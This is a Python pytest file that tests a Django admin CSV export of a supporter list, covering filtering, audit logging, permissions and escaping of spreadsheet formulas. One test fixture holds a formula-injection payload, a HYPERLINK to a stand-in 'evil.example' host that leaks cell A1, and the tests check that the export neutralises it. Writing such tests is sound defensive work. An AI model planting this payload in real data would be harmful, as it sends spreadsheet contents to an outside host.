"""The supporter list as CSV from the admin changelist: its filters, safe cells, audited."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.http import StreamingHttpResponse

from supporters.exports import supporter_csv_rows
from supporters.models import Supporter, SupporterAuditEntry
from tests.factories import SupporterFactory, TagFactory

pytestmark = pytest.mark.django_db

EXPORT_URL = "/admin/supporters/supporter/export.csv"


def staff_client(client, *codenames: str):
    user = User.objects.create_user("staff", password="x", is_staff=True)
    user.user_permissions.set(
        Permission.objects.filter(content_type__app_label="supporters", codename__in=codenames)
    )
    client.force_login(user)
    return client


@pytest.fixture
def exporter_client(client):
    return staff_client(client, "view_supporter", "export_supporters")


@pytest.fixture
def the_list():
    """Subscribed and unsubscribed supporters, some tagged, one with a formula for a name."""
    volunteers, donors = TagFactory(name="volunteers"), TagFactory(name="donors")
    ann = SupporterFactory(email="ann@example.org", first_name="Ann", last_name="Lee")
    ann.tags.set([volunteers, donors])
    SupporterFactory(
        email="mallory@example.org",
        first_name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
        last_name="+1-1",
    ).tags.set([volunteers])
    SupporterFactory(
        email="annette@example.org", first_name="Annette", status=Supporter.Status.UNSUBSCRIBED
    ).tags.set([volunteers])
    SupporterFactory(email="bob@example.org", first_name="Bob", country="RU")
    return {"volunteers": volunteers, "donors": donors}


def download(response) -> list[list[str]]:
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def test_export_holds_exactly_the_rows_the_changelist_filters_and_search_show(
    exporter_client, the_list
):
    query = f"?status__exact=subscribed&tags__id__exact={the_list['volunteers'].pk}&q=example"
    page = exporter_client.get(f"/admin/supporters/supporter/{query}").content.decode()
    assert "ann@example.org" in page and "annette@example.org" not in page

    header, *rows = download(exporter_client.get(EXPORT_URL + query))

    assert header[:3] == ["Email", "First name", "Last name"]
    assert sorted(row[0] for row in rows) == ["ann@example.org", "mallory@example.org"]
    searched = download(exporter_client.get(EXPORT_URL + "?q=annette"))[1:]
    assert [row[0] for row in searched] == ["annette@example.org"]
    everyone = download(exporter_client.get(EXPORT_URL))[1:]
    assert len(everyone) == 4


def test_export_gives_tags_and_escapes_formulas(exporter_client, the_list):
    header, *rows = download(exporter_client.get(EXPORT_URL))
    by_email = {row[0]: dict(zip(header, row, strict=True)) for row in rows}

    assert by_email["ann@example.org"]["Tags"] == "donors; volunteers"
    assert by_email["bob@example.org"]["Tags"] == ""
    assert by_email["bob@example.org"]["Country"] == "Russia"
    mallory = by_email["mallory@example.org"]
    assert mallory["First name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
    assert mallory["Last name"] == "'+1-1"
    assert by_email["annette@example.org"]["Status"] == "Unsubscribed"


def test_rows_and_tags_take_one_query_each_per_chunk_however_many_supporters(
    the_list, django_assert_num_queries
):
    for supporter in SupporterFactory.create_batch(30):
        supporter.tags.add(the_list["donors"])
    with django_assert_num_queries(2):
        rows = list(supporter_csv_rows(Supporter.objects.order_by("pk")))
    assert len(rows) == 1 + 34
    assert rows[-1][8] == "donors"


def test_export_is_written_to_the_audit_log_without_any_email_or_search_text(
    exporter_client, the_list
):
    download(exporter_client.get(EXPORT_URL + "?status__exact=subscribed&q=ann@example.org"))

    entry = SupporterAuditEntry.objects.get()
    assert entry.action == SupporterAuditEntry.Action.EXPORTED_SUPPORTERS
    assert entry.actor_name == "staff"
    assert entry.row_count == 1
    assert "status__exact=subscribed" in entry.detail
    assert "@" not in entry.detail and "ann" not in entry.detail


def test_export_is_refused_without_the_export_permission(client, the_list):
    anonymous = client.get(EXPORT_URL)
    assert anonymous.status_code == 302
    assert anonymous["Location"].startswith("/admin/login/")

    staff_client(client, "view_supporter", "change_supporter")
    assert client.get(EXPORT_URL).status_code == 403
    assert "export.csv" not in client.get("/admin/supporters/supporter/").content.decode()
    assert not SupporterAuditEntry.objects.exists()


def test_a_superuser_may_export(client, the_list):
    client.force_login(User.objects.create_superuser("root", password="x"))
    assert len(download(client.get(EXPORT_URL))) == 1 + 4


def test_changelist_offers_the_export_of_its_filtered_rows(exporter_client, the_list):
    page = exporter_client.get(
        "/admin/supporters/supporter/?status__exact=subscribed&q=example"
    ).content.decode()
    assert (
        f'href="{EXPORT_URL}?status__exact=subscribed&amp;q=example">'
        "Export these 3 supporters as CSV</a>"
    ) in page


def test_bad_filters_give_a_message_not_an_error(exporter_client, the_list):
    response = exporter_client.get(EXPORT_URL + "?created_at__year=nineteen", follow=True)
    assert response.status_code == 200
    assert "nothing was exported" in response.content.decode()
    assert not SupporterAuditEntry.objects.exists()


def test_the_audit_log_is_readable_in_the_admin_and_nobody_can_edit_it(client, the_list):
    root = User.objects.create_superuser("root", password="x")
    client.force_login(root)
    download(client.get(EXPORT_URL + "?status__exact=subscribed"))
    entry = SupporterAuditEntry.objects.get()
    base = "/admin/supporters/supporterauditentry/"

    assert "CSV of supporters: status__exact=subscribed" in client.get(base).content.decode()
    assert client.get(f"{base}{entry.pk}/delete/").status_code == 403
    client.post(f"{base}{entry.pk}/change/", {"detail": "x"})
    entry.refresh_from_db()
    assert entry.detail == "CSV of supporters: status__exact=subscribed"
